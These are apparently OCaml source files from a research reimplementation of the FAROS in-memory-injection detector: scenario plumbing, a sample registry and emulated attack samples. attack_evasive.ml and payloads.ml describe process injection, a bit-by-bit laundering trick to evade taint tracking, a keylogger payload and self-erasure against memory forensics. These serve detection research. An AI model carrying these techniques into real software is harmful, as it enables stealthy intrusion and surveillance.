  ?worker_close:bool ->
  name:string ->
  payloads:string list list ->
  unit ->
  Scenario.t * Gen.schedule
(** Arbitrary per-client chunk lists against the vulnerable listener
    (client [i] sends [List.nth payloads i]) — the entry point the
    property-based tests drive random traffic mixes through. *)

val staged_c2 :
  ?stages:int -> ?gap:int -> ?name:string -> unit -> Scenario.t * Gen.schedule
(** The payload split across [stages] sequential flows; the stager daemon
    reassembles and executes it. *)

val mux_payload : int -> string

val mux_fanin :
  ?clients:int ->
  ?arrival:Gen.arrival ->
  ?name:string ->
  unit ->
  Scenario.t * Gen.schedule * Daemon.mux_layout
(** One process, [clients] concurrent connections, each delivering a
    distinct payload into its own slot buffer — the per-flow-attribution
    workload. *)
