(** The shared corpus snapshot: a keyed build-once cache for immutable
    analysis artifacts (guest [Pe.t] images, payload byte strings) with
    an explicit freeze point.

    Corpus builders route construction through {!image}/{!blob}, so
    scenarios naming the same victim or payload share one physical
    value instead of re-assembling it per sample — the difference
    between O(samples) and O(distinct artifacts) corpus construction,
    which is the campaign driver's serial fraction.

    The campaign driver calls {!freeze} after the corpus is built and
    before worker domains spawn: from then on the tables are never
    mutated, which is what makes sharing them across OCaml 5 domains
    safe.  A post-freeze miss builds without caching (correct, merely
    unshared) and is counted in {!stats} as a late build. *)

type stats = {
  ss_images : int;  (** distinct guest images cached *)
  ss_blobs : int;  (** distinct payload byte strings cached *)
  ss_hits : int;  (** lookups served from the cache *)
  ss_misses : int;  (** build-and-cache fills (pre-freeze) *)
  ss_late_builds : int;  (** post-freeze misses: built, not cached *)
  ss_frozen : bool;
}

val image : string -> (unit -> Faros_os.Pe.t) -> Faros_os.Pe.t
(** [image key build] returns the cached image for [key], calling
    [build] on a miss.  The key must determine the artifact: encode
    every builder parameter into it. *)

val blob : string -> (unit -> string) -> string
(** Same contract for payload byte strings. *)

val freeze : unit -> unit
(** Flip the cache read-only.  Idempotent; call before spawning
    domains. *)

val is_frozen : unit -> bool

val stats : unit -> stats

val reset_for_tests : unit -> unit
(** Drop everything and thaw.  Must not run while worker domains are
    live. *)
