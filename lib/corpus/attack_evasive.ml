(* The evasion the paper's discussion section concedes: "a dedicated attack
   could copy data bit-by-bit using an if statement in a for loop ... The
   output produced by such a loop would be identical to the input but would
   be untainted."

   This client downloads the payload like the reflective injector, but
   launders every byte through a control-dependent bit-copy before
   injecting it.  Under FAROS's direct-flow policy the injected code
   carries no provenance and the attack goes unflagged; switching on
   control-dependency propagation (the configurable policy response the
   paper points to) catches it again, at the usual overtainting price.
   The evasion bench regenerates exactly this contrast. *)

open Faros_vm

let attacker_ip = Attack_reflective.attacker_ip
let attacker_port = 4141

(* launder(r1 = dst, r2 = src, r3 = len): byte-wise bit-copy.
   Clobbers r0, r4, r5, r6. *)
let launder_sub ~label =
  [
    Progs.lbl label;
    Progs.movi Isa.r4 0;
    Progs.lbl (label ^ "_loop");
    Progs.i (Isa.Cmp_rr (Isa.r4, Isa.r3));
    Asm.Jge_l (label ^ "_done");
    Progs.i (Isa.Load (1, Isa.r5, Isa.indexed ~base:Isa.r2 ~scale:1 Isa.r4));
    Progs.movi Isa.r6 0;
    Progs.movi Isa.r0 1;
    Progs.lbl (label ^ "_bits");
    Progs.i (Isa.Cmp_ri (Isa.r0, 256));
    Asm.Jge_l (label ^ "_emit");
    Progs.i (Isa.Push Isa.r5);
    Progs.i (Isa.And_rr (Isa.r5, Isa.r0));
    Progs.i (Isa.Cmp_ri (Isa.r5, 0));
    Progs.i (Isa.Pop Isa.r5);
    Asm.Jz_l (label ^ "_skip");
    Progs.i (Isa.Or_rr (Isa.r6, Isa.r0));  (* the control-dependent write *)
    Progs.lbl (label ^ "_skip");
    Progs.i (Isa.Shl_ri (Isa.r0, 1));
    Asm.Jmp_l (label ^ "_bits");
    Progs.lbl (label ^ "_emit");
    Progs.i (Isa.Store (1, Isa.indexed ~base:Isa.r1 ~scale:1 Isa.r4, Isa.r6));
    Progs.addi Isa.r4 1;
    Asm.Jmp_l (label ^ "_loop");
    Progs.lbl (label ^ "_done");
    Progs.i Isa.Ret;
  ]

let client_image ~target_pid =
  Snapshot.image (Printf.sprintf "evasive_client/%d" target_pid) @@ fun () ->
  let items =
    List.concat
      [
        [ Progs.lbl "start" ];
        Progs.connect_raw ~ip:attacker_ip ~port:attacker_port;
        Progs.prefixed_recv ~sock_reg:Isa.r7 ~len_buf:"lenbuf" ~data_buf:"pbuf"
          ~recv_sub:"recvx";
        [ Progs.movr Isa.r5 Isa.r3 ];
        (* launder pbuf -> lbuf, preserving the length across the call *)
        [
          Progs.i (Isa.Push Isa.r5);
          Asm.Mov_label (Isa.r1, "lbuf");
          Asm.Mov_label (Isa.r2, "pbuf");
          Progs.movr Isa.r3 Isa.r5;
          Asm.Call_l "launder";
          Progs.i (Isa.Pop Isa.r5);
        ];
        (* inject the laundered copy *)
        [ Progs.movi Isa.r1 target_pid; Progs.movr Isa.r2 Isa.r5 ];
        Progs.syscall Faros_os.Syscall.nt_allocate_virtual_memory;
        [ Progs.movr Isa.r6 Isa.r0 ];
        [
          Progs.movi Isa.r1 target_pid;
          Progs.movr Isa.r2 Isa.r6;
          Asm.Mov_label (Isa.r3, "lbuf");
          Progs.movr Isa.r4 Isa.r5;
        ];
        Progs.syscall Faros_os.Syscall.nt_write_virtual_memory;
        [ Progs.movi Isa.r1 target_pid ];
        Progs.syscall Faros_os.Syscall.nt_suspend_process;
        [ Progs.movi Isa.r1 target_pid; Progs.movr Isa.r2 Isa.r6 ];
        Progs.syscall Faros_os.Syscall.nt_set_context_thread;
        [ Progs.movi Isa.r1 target_pid ];
        Progs.syscall Faros_os.Syscall.nt_resume_process;
        [ Progs.halt ];
        Progs.recv_exact_sub ~label:"recvx";
        launder_sub ~label:"launder";
        [ Asm.Align 4 ];
        Progs.buffer "lenbuf" 4;
        Progs.buffer "pbuf" 2048;
        Progs.buffer "lbuf" 2048;
      ]
  in
  Faros_os.Pe.of_program ~name:"evasive_client.exe" ~base:Faros_os.Process.image_base
    items

let scenario () =
  let payload = Payloads.popup ~text:"laundered!" () in
  Scenario.make "evasive_injection"
    ~images:
      [
        ("notepad.exe", Victims.notepad ());
        ("evasive_client.exe", client_image ~target_pid:Attack_reflective.first_boot_pid);
      ]
    ~actors:
      [
        {
          Faros_os.Netstack.actor_name = "metasploit";
          actor_ip = Faros_os.Types.Ip.of_string attacker_ip;
          actor_port = attacker_port;
          on_connect = (fun _ -> [ Progs.frame payload ]);
          on_data = (fun _ _ -> []);
        };
      ]
    ~max_ticks:2_000_000 ~boot:[ "notepad.exe"; "evasive_client.exe" ]
