(* The shared corpus snapshot: one immutable set of analysis artifacts
   (guest images, payload byte strings) built once, shared everywhere.

   Corpus builders construct the same artifacts over and over — every
   reflective sample assembles the same notepad.exe, every sweep point
   re-assembles a payload its neighbours already built.  At 130 samples
   nobody notices; at a 1,000+ sample generated sweep the duplicate
   assembly work (and the duplicate heap copies it leaves behind)
   becomes the campaign driver's serial fraction: corpus construction
   happens before the worker domains exist, so every re-derived artifact
   is pure Amdahl overhead.

   This module is a keyed build-once cache with an explicit freeze
   point:

   - While thawed (corpus-construction time, single-domained by
     construction: the registry lists are built by the driver before any
     pool exists), [image]/[blob] build on first use and return the
     cached physical value after that.  Scenarios that name the same
     victim therefore share ONE [Pe.t] — safe because [Pe.t] and payload
     strings are deeply immutable and scenario installation serializes
     them into each job's private guest filesystem.

   - [freeze] flips the cache read-only.  Called by the campaign driver
     before spawning domains: from that point the tables are never
     mutated, which is exactly the property that makes sharing them
     (inside scenario closures captured by jobs) safe across OCaml 5
     domains.  A post-freeze miss builds WITHOUT caching — correct,
     merely unshared — and is counted, because a hot post-freeze build
     path means someone is constructing corpora inside jobs, defeating
     the snapshot.

   Counters are [Atomic.t] so the stats stay exact even if a worker
   domain does hit the cache concurrently. *)

type stats = {
  ss_images : int;  (* distinct guest images cached *)
  ss_blobs : int;  (* distinct payload byte strings cached *)
  ss_hits : int;  (* lookups served from the cache *)
  ss_misses : int;  (* build-and-cache fills (pre-freeze) *)
  ss_late_builds : int;  (* post-freeze misses: built, not cached *)
  ss_frozen : bool;
}

let images : (string, Faros_os.Pe.t) Hashtbl.t = Hashtbl.create 64
let blobs : (string, string) Hashtbl.t = Hashtbl.create 64
let frozen = Atomic.make false
let hits = Atomic.make 0
let misses = Atomic.make 0
let late_builds = Atomic.make 0

let lookup (tbl : (string, 'a) Hashtbl.t) key (build : unit -> 'a) =
  match Hashtbl.find_opt tbl key with
  | Some v ->
    Atomic.incr hits;
    v
  | None ->
    if Atomic.get frozen then begin
      Atomic.incr late_builds;
      build ()
    end
    else begin
      Atomic.incr misses;
      let v = build () in
      Hashtbl.replace tbl key v;
      v
    end

let image key build = lookup images key build
let blob key build = lookup blobs key build
let freeze () = Atomic.set frozen true
let is_frozen () = Atomic.get frozen

let stats () =
  {
    ss_images = Hashtbl.length images;
    ss_blobs = Hashtbl.length blobs;
    ss_hits = Atomic.get hits;
    ss_misses = Atomic.get misses;
    ss_late_builds = Atomic.get late_builds;
    ss_frozen = Atomic.get frozen;
  }

(* Tests only: drop everything and thaw.  Must not run while worker
   domains are live. *)
let reset_for_tests () =
  Hashtbl.reset images;
  Hashtbl.reset blobs;
  Atomic.set frozen false;
  Atomic.set hits 0;
  Atomic.set misses 0;
  Atomic.set late_builds 0
