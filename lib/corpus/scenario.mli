(** Scenario: everything needed to run one sample end to end.

    A scenario separates {e deterministic system construction} (images and
    data files — present at both record and replay time) from {e external
    non-determinism} (network actors and the user's keystrokes — live at
    record time, replaced by the trace at replay time). *)

type t = {
  scn_name : string;
  images : (string * Faros_os.Pe.t) list;  (** path -> image *)
  files : (string * string) list;
  actors : Faros_os.Netstack.actor list;
  inbound : (int * Faros_os.Netstack.inbound_event) list;
      (** host-initiated traffic: the generator's schedule at record time;
          at replay the trace's recorded schedule takes its place *)
  keys : string;  (** scripted user keystrokes *)
  boot : string list;  (** image paths spawned at boot, in order *)
  max_ticks : int;
}

val make :
  ?files:(string * string) list ->
  ?actors:Faros_os.Netstack.actor list ->
  ?inbound:(int * Faros_os.Netstack.inbound_event) list ->
  ?keys:string ->
  ?max_ticks:int ->
  images:(string * Faros_os.Pe.t) list ->
  boot:string list ->
  string ->
  t

val install : t -> Faros_os.Kernel.t -> unit
val setup_record : t -> Faros_os.Kernel.t -> unit
val setup_replay : t -> Faros_os.Kernel.t -> unit
val boot : t -> Faros_os.Kernel.t -> unit

val record : t -> Faros_os.Kernel.t * Faros_replay.Trace.t
(** Record the scenario live. *)

val replay_plain :
  ?tb_cache:bool ->
  ?dift_fast:bool ->
  t ->
  Faros_replay.Trace.t ->
  Faros_replay.Replayer.result
(** Replay without any analysis plugin (the Table V baseline).
    [tb_cache] forces the translation-block cache on/off for this replay;
    [dift_fast] likewise for the DIFT untainted fast path (only
    meaningful when a DIFT plugin is attached — a no-op here, accepted
    for harness symmetry). *)

val replay_with :
  t ->
  ?tb_cache:bool ->
  ?dift_fast:bool ->
  ?sample:(int * (tick:int -> syscalls:int -> unit)) ->
  plugins:(Faros_os.Kernel.t -> Faros_replay.Plugin.t list) ->
  Faros_replay.Trace.t ->
  Faros_replay.Replayer.result

val analyze :
  ?config:Core.Config.t ->
  ?metrics:Faros_obs.Metrics.t ->
  ?trace_sink:Faros_obs.Trace.t ->
  ?telemetry:Core.Telemetry.t ->
  ?max_ticks:int ->
  ?deadline:float ->
  ?profile:Faros_obs.Profile.t ->
  ?sink:Faros_obs.Sink.t ->
  ?extra_plugins:
    (Faros_os.Kernel.t -> Core.Faros_plugin.t -> Faros_replay.Plugin.t list) ->
  t ->
  Core.Analysis.outcome
(** Full FAROS workflow: record, then replay under the FAROS plugin.
    [metrics], [trace_sink], [telemetry], [deadline], [profile], [sink]
    and [extra_plugins] thread through to {!Core.Analysis.analyze};
    [max_ticks] overrides the scenario's own tick budget (a campaign
    job's tick cap). *)
