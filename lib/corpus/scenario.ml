(* Scenario: everything needed to run one sample end to end.

   A scenario separates what is *deterministic system construction* (images
   and data files — present at both record and replay time) from what is
   *external non-determinism* (network actors and the user's keystrokes —
   live at record time, replaced by the trace at replay time). *)

type t = {
  scn_name : string;
  images : (string * Faros_os.Pe.t) list;  (* path -> image *)
  files : (string * string) list;  (* path -> contents *)
  actors : Faros_os.Netstack.actor list;
  inbound : (int * Faros_os.Netstack.inbound_event) list;
      (* host-initiated traffic: the generator's schedule at record time;
         at replay the trace's recorded schedule takes its place *)
  keys : string;  (* scripted user keystrokes *)
  boot : string list;  (* image paths spawned at boot, in order *)
  max_ticks : int;
}

let make ?(files = []) ?(actors = []) ?(inbound = []) ?(keys = "")
    ?(max_ticks = 600_000) ~images ~boot scn_name =
  { scn_name; images; files; actors; inbound; keys; boot; max_ticks }

let install t (k : Faros_os.Kernel.t) =
  List.iter (fun (path, image) -> Faros_os.Kernel.install_image k ~path image) t.images;
  List.iter (fun (path, data) -> Faros_os.Fs.install k.fs path data) t.files

let setup_record t k =
  install t k;
  List.iter (Faros_os.Netstack.register_actor k.net) t.actors;
  Faros_os.Netstack.schedule_inbound k.net t.inbound;
  Faros_os.Input_dev.script_string k.input t.keys

let setup_replay t k = install t k

let boot t (k : Faros_os.Kernel.t) =
  List.iter (fun path -> ignore (Faros_os.Kernel.spawn k path)) t.boot

(* Record the scenario live. *)
let record t =
  Faros_replay.Recorder.record ~max_ticks:t.max_ticks ~setup:(setup_record t)
    ~boot:(boot t) ()

(* Replay a trace without any analysis plugin (the Table V baseline). *)
let replay_plain ?tb_cache ?dift_fast t trace =
  Faros_replay.Replayer.replay ~max_ticks:t.max_ticks ?tb_cache ?dift_fast
    ~setup:(setup_replay t) ~boot:(boot t) trace

(* Replay a trace with a given plugin set. *)
let replay_with t ?tb_cache ?dift_fast ?sample ~plugins trace =
  Faros_replay.Replayer.replay ~max_ticks:t.max_ticks ?tb_cache ?dift_fast
    ?sample ~plugins ~setup:(setup_replay t) ~boot:(boot t) trace

(* Full FAROS workflow: record, then replay under the FAROS plugin.
   [max_ticks] overrides the scenario's own tick budget (campaign jobs cap
   runaway samples with it); [deadline] is a wall-clock budget in seconds
   (see {!Core.Analysis.analyze}). *)
let analyze ?config ?metrics ?trace_sink ?telemetry ?max_ticks ?deadline
    ?profile ?sink ?extra_plugins t =
  Core.Analysis.analyze ?config ?metrics ?trace_sink ?telemetry ?deadline
    ?profile ?sink ?extra_plugins
    ~max_ticks:(Option.value max_ticks ~default:t.max_ticks)
    ~setup_record:(setup_record t) ~setup_replay:(setup_replay t)
    ~boot:(boot t) ()
