(* The sample registry: every workload in the evaluation, with its expected
   verdict, so tests and benches iterate one authoritative list. *)

type category =
  | Attack of string  (* injection technique *)
  | Rat  (* Table IV non-injecting malware *)
  | Benign_app  (* Table IV benign software *)
  | Jit_applet of bool  (* native-stub applet? *)
  | Jit_ajax

type expected = Expect_flag | Expect_clean

type sample = {
  id : string;
  family : string;
  category : category;
  expected : expected;
  behaviors : Behavior.t list;
  scenario : Scenario.t;
}

(* The six in-memory-injection samples of Section VI. *)
let attacks () =
  [
    {
      id = "reflective_dll_inject";
      family = "meterpreter";
      category = Attack "reflective-dll-injection";
      expected = Expect_flag;
      behaviors = [];
      scenario = Attack_reflective.reflective_dll_inject ();
    };
    {
      id = "reverse_tcp_dns";
      family = "meterpreter";
      category = Attack "reflective-dll-injection";
      expected = Expect_flag;
      behaviors = [];
      scenario = Attack_reflective.reverse_tcp_dns ();
    };
    {
      id = "bypassuac_injection";
      family = "meterpreter";
      category = Attack "reflective-dll-injection";
      expected = Expect_flag;
      behaviors = [];
      scenario = Attack_reflective.bypassuac_injection ();
    };
    {
      id = "process_hollowing";
      family = "lab3-3";
      category = Attack "process-hollowing";
      expected = Expect_flag;
      behaviors = [ Behavior.Key_logger ];
      scenario = Attack_hollowing.scenario ();
    };
    {
      id = "darkcomet_injection";
      family = "darkcomet";
      category = Attack "code-injection";
      expected = Expect_flag;
      behaviors = [];
      scenario = Attack_injection.darkcomet ();
    };
    {
      id = "njrat_injection";
      family = "njrat";
      category = Attack "code-injection";
      expected = Expect_flag;
      behaviors = [];
      scenario = Attack_injection.njrat ();
    };
  ]

(* Transient variants: the payload scrubs itself before exiting — FAROS
   still flags (it watched the whole execution); snapshot forensics do not. *)
let transient_attacks () =
  [
    {
      id = "reflective_dll_inject_transient";
      family = "meterpreter";
      category = Attack "reflective-dll-injection";
      expected = Expect_flag;
      behaviors = [];
      scenario = Attack_reflective.reflective_dll_inject ~scrub:true ();
    };
    {
      id = "darkcomet_injection_transient";
      family = "darkcomet";
      category = Attack "code-injection";
      expected = Expect_flag;
      behaviors = [];
      scenario = Attack_injection.darkcomet ~scrub:true ();
    };
  ]

(* The discussion-section evasion: bit-by-bit laundering strips provenance,
   so the *default* policy is expected to miss it; the control-dependency
   policy recovers it.  Kept out of [all] — its expected verdict is
   policy-dependent. *)
let evasive_attacks () =
  [
    {
      id = "evasive_laundering_injection";
      family = "meterpreter";
      category = Attack "taint-laundering-injection";
      expected = Expect_clean;
      behaviors = [];
      scenario = Attack_evasive.scenario ();
    };
  ]

(* Beyond the paper's six samples: the full reflective-DLL form of the
   technique (sectioned image, in-guest mapping).  Kept out of [all] so the
   evaluation counts stay the paper's. *)
let extended_attacks () =
  [
    {
      id = "reflective_rdll";
      family = "meterpreter";
      category = Attack "reflective-dll-injection";
      expected = Expect_flag;
      behaviors = [];
      scenario = Attack_reflective.reflective_rdll ();
    };
  ]

(* Extra benign workloads (DLL loading, loopback IPC); kept out of [all]
   so the Table IV sample counts stay exactly the paper's. *)
let extras () =
  List.map
    (fun (id, scenario) ->
      {
        id;
        family = "extras";
        category = Benign_app;
        expected = Expect_clean;
        behaviors = [];
        scenario;
      })
    (Extras.samples ())

let rats ?total () =
  List.map
    (fun (id, family, behaviors, scenario) ->
      { id; family; category = Rat; expected = Expect_clean; behaviors; scenario })
    (Rats.samples ?total ())

let benign ?total () =
  List.map
    (fun (id, family, behaviors, scenario) ->
      { id; family; category = Benign_app; expected = Expect_clean; behaviors; scenario })
    (Benign.samples ?total ())

let jits () =
  List.map
    (fun (id, kind, native, scenario) ->
      let category, expected =
        match kind with
        | `Applet -> (Jit_applet native, if native then Expect_flag else Expect_clean)
        | `Ajax -> (Jit_ajax, Expect_clean)
      in
      { id; family = "jit"; category; expected; behaviors = []; scenario })
    (Jit.samples ())

(* Server-side showcase samples: guest daemons under host-initiated
   traffic (lib/netd).  Kept out of [all] so the Table II-IV sample
   counts stay exactly the paper's; `faros campaign --corpus netd|full`
   and the netd tests pull them in. *)
let netd_showcase () =
  let scn_benign, _ = Servers.benign_load ~clients:100 () in
  let scn_inject, _, _ = Servers.inject_under_load ~clients:100 () in
  let scn_staged, _ = Servers.staged_c2 ~stages:3 () in
  let scn_500, _, _ =
    Servers.inject_under_load ~clients:500 ~name:"netd_inject_500" ()
  in
  (* the bounded-memory acceptance sample: workers close their
     connections and arrivals pace the ~800-tick service time, so
     connections quiesce as fast as they arrive and the incremental
     builder's live graph stays O(concurrent connections) — constant in
     the connection count *)
  let scn_2000, _, _ =
    Servers.inject_under_load ~clients:2000 ~worker_close:true
      ~arrival:(Faros_netd.Gen.Uniform 1000) ~name:"netd_inject_2000" ()
  in
  [
    {
      id = "netd_benign_load";
      family = "netd";
      category = Benign_app;
      expected = Expect_clean;
      behaviors = [];
      scenario = scn_benign;
    };
    {
      id = "netd_inject_under_server";
      family = "netd";
      category = Attack "inject-through-server";
      expected = Expect_flag;
      behaviors = [];
      scenario = scn_inject;
    };
    {
      id = "netd_staged_c2";
      family = "netd";
      category = Attack "staged-c2";
      expected = Expect_flag;
      behaviors = [];
      scenario = scn_staged;
    };
    {
      id = "netd_inject_500";
      family = "netd";
      category = Attack "inject-through-server";
      expected = Expect_flag;
      behaviors = [];
      scenario = scn_500;
    };
    {
      id = "netd_inject_2000";
      family = "netd";
      category = Attack "inject-through-server";
      expected = Expect_flag;
      behaviors = [];
      scenario = scn_2000;
    };
  ]

(* Traffic-generator sweep families: client count x arrival pattern for
   both the benign and the inject-through-server shapes, plus payload
   staging depths — the long-job corpus the campaign farm scales on. *)
let netd_sweeps () =
  let arrivals =
    [
      ("uniform", Faros_netd.Gen.Uniform 40);
      ("burst", Faros_netd.Gen.Burst { size = 8; gap = 400 });
      ("ramp", Faros_netd.Gen.Ramp { start_gap = 80; end_gap = 10 });
    ]
  in
  let load_sweep =
    List.concat_map
      (fun clients ->
        List.concat_map
          (fun (aname, arrival) ->
            let benign_id = Printf.sprintf "netd_benign_c%d_%s" clients aname in
            let inject_id = Printf.sprintf "netd_inject_c%d_%s" clients aname in
            let scn_b, _ = Servers.benign_load ~clients ~arrival ~name:benign_id () in
            let scn_i, _, _ =
              Servers.inject_under_load ~clients ~arrival ~name:inject_id ()
            in
            [
              {
                id = benign_id;
                family = "netd-sweep";
                category = Benign_app;
                expected = Expect_clean;
                behaviors = [];
                scenario = scn_b;
              };
              {
                id = inject_id;
                family = "netd-sweep";
                category = Attack "inject-through-server";
                expected = Expect_flag;
                behaviors = [];
                scenario = scn_i;
              };
            ])
          arrivals)
      [ 8; 16; 32; 64 ]
  in
  let staging_sweep =
    List.map
      (fun stages ->
        let id = Printf.sprintf "netd_staged_s%d" stages in
        let scn, _ = Servers.staged_c2 ~stages ~name:id () in
        {
          id;
          family = "netd-sweep";
          category = Attack "staged-c2";
          expected = Expect_flag;
          behaviors = [];
          scenario = scn;
        })
      [ 2; 3; 4 ]
  in
  load_sweep @ staging_sweep

(* The generated sweep corpus (lib/corpus/sweep.ml): 1,000+ deterministic
   samples over the behaviour matrix.  Kept out of [all] so the core-130
   goldens stay the paper's; `faros campaign --corpus sweep1k` and the
   scaling bench pull it in. *)
let sweep1k ?seeds () =
  List.map
    (fun (id, kind, scenario) ->
      let category, expected =
        match (kind : Sweep.kind) with
        | Sweep.Refl | Sweep.Self_inject ->
          (Attack "reflective-dll-injection", Expect_flag)
        | Sweep.Iat -> (Attack "code-injection", Expect_flag)
        | Sweep.Launder -> (Attack "taint-laundering-injection", Expect_clean)
        | Sweep.Drop -> (Benign_app, Expect_clean)
      in
      { id; family = "sweep"; category; expected; behaviors = []; scenario })
    (Sweep.samples ?seeds ())

(* The Table V performance workloads: named after the paper's table. *)
let perf_workloads () =
  (* Hash the wanted ids first: the List.mem version was O(wanted x
     samples), which generated corpora turn into real time. *)
  let by_id wanted samples =
    let want = Hashtbl.create (List.length wanted) in
    List.iter (fun id -> Hashtbl.replace want id ()) wanted;
    List.filter (fun s -> Hashtbl.mem want s.id) samples
  in
  by_id
    [ "skype_s2"; "teamviewer_s1"; "remote_utility_s0" ]
    (benign ())
  @ by_id [ "bozok_s0"; "spygate_v3.2_s0"; "pandora_v2.2_s0" ] (rats ())

(* A deliberately crashing sample, hidden from [all]: its boot list names
   an executable that is never installed, so analyzing it raises
   [Faros_os.Spawn.Bad_executable] out of the record phase.  It exists to
   pin the campaign's crash-isolation property — a raising sample must
   become an [Error] verdict, not abort the run. *)
let crash_test () =
  {
    id = "crash_missing_boot_image";
    family = "hidden-test";
    category = Benign_app;
    expected = Expect_clean;
    behaviors = [];
    scenario =
      Scenario.make ~images:[] ~boot:[ "C:\\missing\\no_such_image.exe" ]
        "crash_missing_boot_image";
  }

let all () = attacks () @ rats () @ benign () @ jits ()

let find id =
  match
    List.find_opt
      (fun s -> s.id = id)
      (all () @ transient_attacks () @ evasive_attacks ()
     @ extended_attacks () @ extras () @ netd_showcase () @ netd_sweeps ()
     @ [ crash_test () ])
  with
  | Some _ as found -> found
  | None ->
    (* Sweep ids are prefixed, so the 1,000+ generated samples are only
       materialized when one is actually asked for. *)
    if String.length id >= 4 && String.sub id 0 4 = "swp_" then
      List.find_opt (fun s -> s.id = id) (sweep1k ())
    else None

let pp_category ppf = function
  | Attack t -> Fmt.pf ppf "attack(%s)" t
  | Rat -> Fmt.string ppf "malware"
  | Benign_app -> Fmt.string ppf "benign"
  | Jit_applet native -> Fmt.pf ppf "jit-applet%s" (if native then "(native)" else "")
  | Jit_ajax -> Fmt.string ppf "jit-ajax"
