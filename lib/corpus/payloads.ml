(* Injected payloads.

   These are the bytes that travel over the wire (or sit inside a dropper's
   image) and end up executing inside a victim process.  Each one begins
   with the reflective ritual the paper describes: resolving LoadLibraryA,
   GetProcAddress and VirtualAlloc by walking the kernel export directory —
   the walk whose final pointer load FAROS flags.

   Payloads are assembled for a fixed [origin]: the first allocation a
   victim process grants is deterministic in this guest (heap base
   0x10000000), so the attacker pre-links the payload for that address —
   standing in for the position-independent shellcode real kits generate. *)

open Faros_vm

let h = Faros_os.Export_table.hash_name

(* Where the first NtAllocateVirtualMemory in a fresh victim lands. *)
let default_origin = Faros_os.Process.heap_base

let scan = "scan"

(* Resolve an API by hash into r0 (clobbers r1..r6). *)
let resolve name = [ Progs.movi Isa.r1 (h name); Asm.Call_l scan ]

(* The opening ritual: resolve the three loader functions, keeping
   GetProcAddress in a data slot for later benign-path resolution. *)
let reflective_prologue =
  List.concat
    [
      resolve "LoadLibraryA";
      resolve "GetProcAddress";
      [ Progs.lea_label Isa.r6 "slot_gpa"; Progs.i (Isa.Store (4, Isa.based Isa.r6, Isa.r0)) ];
      resolve "VirtualAlloc";
    ]

(* Call a function whose address is stored in data slot [slot];
   r1/r2/r3 must already hold its arguments. *)
let call_slot slot =
  [
    Progs.lea_label Isa.r6 slot;
    Progs.i (Isa.Load (4, Isa.r6, Isa.based Isa.r6));
    Progs.i (Isa.Call_r Isa.r6);
  ]

(* Transient cleanup: unmap the payload's own region once the work is done.
   The view disappears from the address space, so an end-of-run memory dump
   has nothing for malfind to scan — the paper's point that snapshot
   forensics only see one instant.  The process takes a page fault on the
   next fetch and dies, which reads as an ordinary crash. *)
let scrub_items ~origin =
  List.concat
    [
      [
        Progs.movi Isa.r1 0;
        Progs.movi Isa.r2 origin;
        Progs.movi Isa.r3 Faros_vm.Phys_mem.page_size;
      ];
      Progs.syscall Faros_os.Syscall.nt_unmap_view_of_section;
    ]

let assemble ~origin items = Bytes.to_string (Asm.assemble ~origin items).code

(* A payload that proves execution inside the victim with a pop-up: the
   paper's reflective-DLL test ("the injected DLL only showed a pop-up
   message from the target process"). *)
let popup ?(origin = default_origin) ?(scrub = false) ~text () =
  Snapshot.blob (Printf.sprintf "payload/popup/%x/%b/%s" origin scrub text)
  @@ fun () ->
  let text_len = String.length text in
  let name = "MessageBoxA" in
  let items =
    List.concat
      [
        [ Progs.lbl "start" ];
        reflective_prologue;
        (* MessageBoxA via the *resolved* GetProcAddress (benign kernel path). *)
        [ Progs.lea_label Isa.r1 "str_name"; Progs.movi Isa.r2 (String.length name) ];
        call_slot "slot_gpa";
        [
          Progs.movr Isa.r5 Isa.r0;
          Progs.lea_label Isa.r1 "str_text";
          Progs.movi Isa.r2 text_len;
          Progs.i (Isa.Call_r Isa.r5);
          Asm.Jmp_l "finish";
        ];
        Progs.export_scan_sub ~label:scan;
        [ Progs.lbl "slot_gpa"; Asm.U32 0 ];
        Progs.cstring "str_name" name;
        Progs.cstring "str_text" text;
        [ Asm.Align 4; Progs.lbl "finish" ];
        (if scrub then scrub_items ~origin else []);
        [ Progs.halt ];
      ]
  in
  assemble ~origin items

(* The hollowing payload (Lab 3-3's keylogger): resolves its imports
   reflectively, logs [keys] keystrokes and writes them to [log]. *)
let keylogger ?(origin = default_origin) ?(keys = 16) ?(log = "keys.log") () =
  Snapshot.blob (Printf.sprintf "payload/keylogger/%x/%d/%s" origin keys log)
  @@ fun () ->
  let store_slot slot =
    [ Progs.lea_label Isa.r6 slot; Progs.i (Isa.Store (4, Isa.based Isa.r6, Isa.r0)) ]
  in
  let items =
    List.concat
      [
        [ Progs.lbl "start" ];
        reflective_prologue;
        resolve "GetAsyncKeyState";
        store_slot "slot_keys";
        resolve "CreateFileA";
        store_slot "slot_create";
        resolve "WriteFile";
        store_slot "slot_write";
        (* handle = CreateFileA(log) *)
        [ Progs.lea_label Isa.r1 "str_log"; Progs.movi Isa.r2 (String.length log) ];
        call_slot "slot_create";
        [ Progs.lea_label Isa.r6 "slot_h"; Progs.i (Isa.Store (4, Isa.based Isa.r6, Isa.r0)) ];
        (* capture loop: r7 counts down, r5 indexes the buffer *)
        [ Progs.movi Isa.r7 keys; Progs.movi Isa.r5 0; Progs.lbl "cap" ];
        call_slot "slot_keys";
        [
          Progs.lea_label Isa.r4 "buf";
          Progs.i (Isa.Store (1, Isa.indexed ~base:Isa.r4 ~scale:1 Isa.r5, Isa.r0));
          Progs.addi Isa.r5 1;
          Progs.i (Isa.Sub_ri (Isa.r7, 1));
          Progs.i (Isa.Cmp_ri (Isa.r7, 0));
          Asm.Jnz_l "cap";
        ];
        (* WriteFile(handle, buf, keys) *)
        [
          Progs.lea_label Isa.r6 "slot_h";
          Progs.i (Isa.Load (4, Isa.r1, Isa.based Isa.r6));
          Progs.lea_label Isa.r2 "buf";
          Progs.movi Isa.r3 keys;
        ];
        call_slot "slot_write";
        [ Progs.halt ];
        Progs.export_scan_sub ~label:scan;
        [ Progs.lbl "slot_gpa"; Asm.U32 0 ];
        [ Progs.lbl "slot_keys"; Asm.U32 0 ];
        [ Progs.lbl "slot_create"; Asm.U32 0 ];
        [ Progs.lbl "slot_write"; Asm.U32 0 ];
        [ Progs.lbl "slot_h"; Asm.U32 0 ];
        Progs.cstring "str_log" log;
        Progs.buffer "buf" (max keys 16);
      ]
  in
  assemble ~origin items

(* A native applet stub: a legitimate inline-native method shipped inside
   two of the Java applets.  It resolves GetTickCount reflectively and
   returns to the JVM — benign intent, injection-shaped information flow,
   and hence FAROS's false positive. *)
let applet_native_stub ~origin () =
  Snapshot.blob (Printf.sprintf "payload/applet_native_stub/%x" origin)
  @@ fun () ->
  let items =
    List.concat
